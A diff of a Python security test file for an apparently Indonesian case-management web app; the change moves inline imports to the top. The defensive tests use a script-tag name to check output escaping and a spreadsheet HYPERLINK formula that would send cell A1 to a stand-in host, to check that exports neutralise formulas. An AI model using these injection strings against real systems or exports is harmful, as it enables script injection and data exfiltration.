@@ -10,6 +10,12 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from agencies.models import Agency
+from cases import services
+from cases.models import Case, IssuedDocument, LetterTemplate, Person
+from cases.views import _ip
+from sop_catalog.models import SOP
+from sop_catalog.services import SOPFormatError, import_sops
+from tests.cases.test_case_views import pdf_text
 
 # derandomize: CI sees the same examples on every run; set it to False locally to explore new inputs.
 FUZZ = settings(
@@ -57,9 +63,6 @@ def test_extreme_dates_are_clamped(client, demo_users, dari, sampai):
 
 
 def test_script_in_a_name_shows_as_text_in_pages_and_pdfs(petugas_client, registered, petugas):
-    from cases.models import Person
-    from tests.cases.test_case_views import pdf_text
-
     Person.objects.filter(pk=registered.applicant_id).update(name='<script>alert("x")</script> Siti')
 
     page = petugas_client.get(f"/permohonan/{registered.pk}/").content.decode()
@@ -70,8 +73,6 @@ def test_script_in_a_name_shows_as_text_in_pages_and_pdfs(petugas_client, regist
 
 
 def test_a_formula_in_a_name_is_not_exported_as_a_formula(client, demo_users, registered):
-    from cases.models import Person
-
     Person.objects.filter(pk=registered.applicant_id).update(name='=HYPERLINK("http://x/?"&A1,"klik")')
     client.force_login(demo_users["lumajang-kabid"])
 
@@ -120,8 +121,6 @@ def test_two_agencies_can_not_share_a_registration_code(agencies):
 
 
 def test_a_rahasia_case_shows_no_step_on_the_public_page(client, registered):
-    from cases.models import Case
-
     Case.objects.filter(pk=registered.pk).update(sifat="rahasia")
 
     page = client.get(f"/status/{registered.number}/", {"kode": registered.survey_code}).content.decode()
@@ -132,9 +131,6 @@ def test_a_rahasia_case_shows_no_step_on_the_public_page(client, registered):
 def test_only_officials_issue_a_berita_acara_for_a_registered_case(
     client, demo_users, registered, spm, person, petugas
 ):
-    from cases import services
-    from cases.models import IssuedDocument, LetterTemplate
-
     draft = services.open_case(
         user=petugas, sop=spm, applicant=person, beneficiary=person, channel="datang", purpose="konsep"
     )
@@ -154,8 +150,6 @@ def test_only_officials_issue_a_berita_acara_for_a_registered_case(
 
 
 def test_the_client_address_behind_a_trusted_proxy(rf, settings):
-    from cases.views import _ip
-
     request = rf.get("/", HTTP_X_FORWARDED_FOR="203.0.113.9, 10.0.0.2", REMOTE_ADDR="127.0.0.1")
     settings.TRUSTED_PROXY_COUNT = 0
     direct = _ip(request)
@@ -165,9 +159,6 @@ def test_the_client_address_behind_a_trusted_proxy(rf, settings):
 
 
 def test_a_fuzzed_sop_file_is_refused_without_writing(db):
-    from sop_catalog.models import SOP
-    from sop_catalog.services import SOPFormatError, import_sops
-
     before = SOP.objects.count()
     for bad in [None, {}, [1], [{"agency": "x"}], [{"agency": {"name": "A", "slug": "a"}, "slug": "a", "name": "A",
                                                     "roles": [{"label": "X", "desk": "x"}]}]]:  # fmt: skip
